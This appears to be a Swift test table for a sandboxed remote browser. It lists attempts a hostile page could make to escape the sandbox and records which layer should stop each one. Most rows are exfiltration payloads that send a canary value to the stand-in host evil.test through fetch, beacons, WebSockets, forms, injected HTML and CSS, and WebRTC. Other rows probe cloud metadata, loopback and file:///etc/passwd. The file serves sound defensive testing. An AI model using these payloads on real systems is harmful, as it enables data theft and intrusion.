/// What a hostile page, or a person with it, tries in the remote browser.
enum BrowserTable {
  static let all: [BrowserAttempt] = inSessions + calls

  /// What a session's browser can begin as well: it has no network card, without which Chromium makes no call.
  static let inSessions: [BrowserAttempt] =
    downloads + addresses + clipboard + uploads + outputs + keys + devices

  private typealias Row = BrowserAttempt

  // MARK: Files

  private static let downloads: [BrowserAttempt] = [
    Row(
      .browserDownload, "a link to an attachment", .script("location.href = '/attachment?CANARY'"), .disk,
      .policy),
    Row(
      .browserDownload, "an attachment as an address",
      .open("http://notebook.cordon.internal/attachment?CANARY"),
      .disk, .policy),
    Row(
      .browserDownload, "a blob with a[download]", .script(link("URL.createObjectURL(new Blob(['CANARY']))")),
      .disk, .policy),
    Row(
      .browserDownload, "a data: address with a[download]", .script(link("'data:text/csv,CANARY'")), .disk,
      .policy),
    Row(
      .browserDownload, "a form whose answer is an attachment",
      .script("const f = make('form'); f.method = 'post'; f.action = '/attachment?CANARY'; f.submit()"),
      .disk,
      .policy),
    Row(
      .browserDownload, "showSaveFilePicker",
      .script("return 'got ' + (await showSaveFilePicker({suggestedName: 'CANARY'})).name"), .answer,
      .chromium),
    Row(
      .browserDownload, "the page's own file system",
      .script(
        """
        const root = await navigator.storage.getDirectory(), file = await root.getFileHandle('CANARY', {create: true});
        const out = await file.createWritable(); await out.write('CANARY'); await out.close(); return 'got it'
        """), .answer, .session),
    Row(.browserDownload, "Page.captureSnapshot", .command("Page.captureSnapshot", [:]), .answer, .portal),
  ]

  private static func link(_ address: String) -> String {
    "const a = make('a'); a.href = \(address); a.download = 'CANARY.csv'; a.click()"
  }

  // MARK: Addresses that are no pages

  private static let addresses: [BrowserAttempt] = [
    "view-source:http://notebook.cordon.internal/page", "file:///etc/passwd", "file:///", "chrome://version/",
    "chrome://policy/", "chrome://downloads/", "chrome://net-export/", "chrome://inspect/",
    "devtools://devtools/bundled/inspector.html", "data:text/html,CANARY",
  ].map { Row(.browserDownload, $0, .open($0), .opened, .policy) }

  // MARK: Clipboard and printer

  private static let clipboard: [BrowserAttempt] = [
    Row(
      .clipboardPrint, "clipboard.writeText",
      .script("await navigator.clipboard.writeText('CANARY'); return 'got it'"), .answer, .session),
    Row(
      .clipboardPrint, "execCommand copy",
      .script(
        "const t = make('textarea'); t.value = 'CANARY'; t.select(); return document.execCommand('copy') ? 'got it' : 'no'"
      ), .answer, .session),
    Row(
      .clipboardPrint, "clipboard.readText",
      .script("return 'got ' + await navigator.clipboard.readText()"), .answer, .chromium),
    Row(.clipboardPrint, "window.print", .script("print()"), .disk, .chromium),
    Row(.clipboardPrint, "Page.printToPDF", .command("Page.printToPDF", [:]), .answer, .portal),
  ]

  // MARK: Other hosts

  private static let uploads: [BrowserAttempt] = [
    navigation("an address of a foreign host", .open("http://evil.test/CANARY")),
    navigation("a redirect to a foreign host", .open("http://notebook.cordon.internal/redirect?CANARY")),
    navigation("location of a foreign host", .script("location.href = 'http://evil.test/CANARY'")),
    navigation("a window of a foreign host", .script("open('http://evil.test/CANARY')")),
    navigation(
      "a form to a foreign host",
      .script(
        """
        const f = make('form'), i = make('input'); f.method = 'post'; f.action = 'http://evil.test/';
        i.name = 'data'; i.value = 'CANARY'; f.append(i); f.submit()
        """)),
    request("fetch", "fetch('http://evil.test/', {method: 'POST', mode: 'no-cors', body: 'CANARY'})"),
    request("fetch over TLS", "fetch('https://CANARY.evil.test/', {mode: 'no-cors'})"),
    request("fetch of an address", "fetch('http://198.51.100.7/CANARY', {mode: 'no-cors'})"),
    request(
      "XMLHttpRequest",
      "const x = new XMLHttpRequest(); x.open('POST', 'http://evil.test/'); x.send('CANARY')"),
    request("sendBeacon", "navigator.sendBeacon('http://evil.test/', 'CANARY')"),
    request(
      "sendBeacon as the page is left",
      "addEventListener('pagehide', () => navigator.sendBeacon('http://evil.test/', 'CANARY')); location.href = '/page?2'"
    ),
    request("WebSocket", "new WebSocket('ws://CANARY.evil.test/')"),
    request("EventSource", "new EventSource('http://evil.test/CANARY')"),
    request(
      "a service worker's fetch",
      """
      await navigator.serviceWorker.register('/worker.js');
      (await navigator.serviceWorker.ready).active.postMessage('http://evil.test/CANARY')
      """),
    request("fetch of the machine's metadata", "fetch('http://169.254.169.254/CANARY', {mode: 'no-cors'})"),
    request("fetch of the loopback", "fetch('http://127.0.0.1:19555/CANARY', {mode: 'no-cors'})"),
    request("prefetch", head("link", "rel: 'prefetch', href: 'http://evil.test/CANARY'")),
    outside(
      "dns-prefetch", head("link", "rel: 'dns-prefetch', href: '//CANARY.evil.test'"), .network,
      alone: .policy),
    outside("preconnect", head("link", "rel: 'preconnect', href: 'https://CANARY.evil.test'"), .policy),
    outside(
      "WebTransport", "await new WebTransport('https://CANARY.evil.test/').ready", .network, alone: .policy),
    Row(
      .externalUpload, "a file chosen with the debugging pipe's help",
      .script("const i = make('input'); i.type = 'file'; i.click()"), .event("Page.fileChooserOpened"),
      .portal),
    Row(
      .externalUpload, "showOpenFilePicker",
      .script("return 'got ' + (await showOpenFilePicker())[0].name"), .answer, .chromium),
  ]

  private static func navigation(_ name: String, _ act: BrowserAttempt.Act) -> BrowserAttempt {
    Row(.externalUpload, name, act, .outside, .policy)
  }

  private static func request(_ name: String, _ script: String) -> BrowserAttempt {
    outside(name, script, .gateway)
  }

  private static func outside(
    _ name: String, _ script: String, _ stop: BrowserStop, alone: BrowserStop? = nil
  ) -> BrowserAttempt {
    Row(.externalUpload, name, .script(script), .outside, stop, alone: alone)
  }

  private static func head(_ tag: String, _ fields: String) -> String {
    "document.head.append(Object.assign(document.createElement('\(tag)'), {\(fields)}))"
  }

  // MARK: Calls between browsers

  private static let calls: [BrowserAttempt] = [
    call("a STUN server", gathering("stun:CANARY.evil.test:3478")),
    call("a TURN server by UDP", gathering("turn:CANARY.evil.test:3478?transport=udp")),
    call("a TURN server by TCP", gathering("turn:CANARY.evil.test:80?transport=tcp"), alone: .network),
    call("another browser by UDP", calling("udp 2122260223 198.51.100.7 3478 typ host")),
    call(
      "another browser by TCP", calling("tcp 1518280447 198.51.100.7 19555 typ host tcptype passive"),
      alone: .gateway),
  ]

  /// The network stops it before the policy is asked. Alone, that keeps UDP in and leads TCP to its proxy; the look-up of a
  /// server's name only the network stops.
  private static func call(_ name: String, _ script: String, alone: BrowserStop = .policy) -> BrowserAttempt {
    outside("WebRTC, \(name)", script, .network, alone: alone)
  }

  /// Asks a server for the addresses at which this browser could be called.
  private static func gathering(_ server: String) -> String {
    """
    const one = window.one = new RTCPeerConnection({iceServers: [{urls: '\(server)', username: 'x', credential: 'x'}]});
    one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer())
    """
  }

  /// Calls an address: each check of the way there has the other side's name in it in clear (RFC 8445 §7.2.2).
  private static func calling(_ candidate: String) -> String {
    """
    const one = window.one = new RTCPeerConnection(), other = window.other = new RTCPeerConnection();
    one.createDataChannel('x'); await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription); const answer = await other.createAnswer();
    const sdp = answer.sdp.replace(/ice-ufrag:.*/, 'ice-ufrag:CANARY');
    await one.setRemoteDescription({type: 'answer', sdp});
    await one.addIceCandidate({sdpMid: '0', candidate: 'candidate:1 1 \(candidate)'})
    """
  }

  // MARK: A notebook's output

  private static let outputs: [BrowserAttempt] = [
    output("an image", "<img src=http://evil.test/CANARY>"),
    output("an image's other sources", "<img srcset='http://evil.test/CANARY 1x'>"),
    output("a drawing", "<svg><image href=http://evil.test/CANARY /></svg>"),
    output("a style's background", "<p style='background: url(http://evil.test/CANARY)'>x"),
    output("a style sheet", "<link rel=stylesheet href=http://evil.test/CANARY>"),
    output(
      "a font",
      "<style>@font-face {font-family: f; src: url(http://evil.test/CANARY)} p {font-family: f}</style><p>x"),
    output("a film's picture", "<video poster=http://evil.test/CANARY></video>"),
    output("a sound", "<audio src=http://evil.test/CANARY preload=auto></audio>"),
    output(
      "an error handler", "<img src=x:x onerror=\"navigator.sendBeacon('http://evil.test/', 'CANARY')\">"),
    output("a frame", "<iframe src=http://evil.test/CANARY></iframe>", .policy),
    output("a frame with a page of its own", "<iframe srcdoc='<img src=http://evil.test/CANARY>'></iframe>"),
    output("an object", "<object data=http://evil.test/CANARY></object>", .policy),
    output("a refresh", "<meta http-equiv=refresh content='0; url=http://evil.test/CANARY'>", .policy),
    output(
      "a form that sends itself",
      "<form action=http://evil.test/CANARY></form><img src=x:x onerror='document.forms[0].submit()'>",
      .policy),
    Row(
      .notebookOutput, "a link's ping",
      .script("const a = make('a'); a.href = '#x'; a.ping = 'http://evil.test/CANARY'; a.click()"), .outside,
      .gateway),
  ]

  private static func output(_ name: String, _ html: String, _ stop: BrowserStop = .gateway) -> BrowserAttempt
  {
    let quoted = html.replacing("\\", with: "\\\\").replacing("`", with: "\\`")
    return Row(.notebookOutput, name, .script("make('div').innerHTML = `\(quoted)`"), .outside, stop)
  }

  // MARK: Keys

  private static let keys: [BrowserAttempt] = [
    ("control s", "s", 83, 2), ("control p", "p", 80, 2), ("control u", "u", 85, 2),
    ("control t", "t", 84, 2),
    ("control n", "n", 78, 2), ("control o", "o", 79, 2), ("control j", "j", 74, 2),
    ("control h", "h", 72, 2),
    ("F12", "F12", 123, 0), ("control shift i", "I", 73, 10),
  ].map { name, key, code, modifiers in
    let isFile = ["s", "p"].contains(key)
    return Row(
      key == "p" ? .clipboardPrint : .browserDownload, "the keys \(name)",
      .keys([BrowserAttempt.Key(name: key, code: code, modifiers: modifiers)]), isFile ? .disk : .target,
      .chromium)
  }

  // MARK: Devices and windows

  private static let devices: [BrowserAttempt] = [
    answer("a USB device", "await navigator.usb.requestDevice({filters: []})"),
    answer("a HID device", "(await navigator.hid.requestDevice({filters: []}))[0].productName"),
    answer("a serial port", "await navigator.serial.requestPort()"),
    answer("a Bluetooth device", "await navigator.bluetooth.requestDevice({acceptAllDevices: true})"),
    answer("camera and microphone", "await navigator.mediaDevices.getUserMedia({audio: true, video: true})"),
    answer("the screen", "await navigator.mediaDevices.getDisplayMedia()"),
    answer("the place", "await new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))"),
    window("a window of a file", "file:///etc/passwd"),
    window("a window of the browser's own", "chrome://version/"),
    window("a window of a page's source", "view-source:http://notebook.cordon.internal/page"),
    Row(
      .externalUpload, "a mail program", .script("location.href = 'mailto:x@evil.test?body=CANARY'"),
      .outside, .chromium),
  ]

  private static func answer(_ name: String, _ script: String) -> BrowserAttempt {
    Row(.externalUpload, name, .script("return 'got ' + (\(script))"), .answer, .chromium)
  }

  private static func window(_ name: String, _ address: String) -> BrowserAttempt {
    Row(.browserDownload, name, .script("return open('\(address)') ? 'got it' : 'no'"), .answer, .chromium)
  }
}
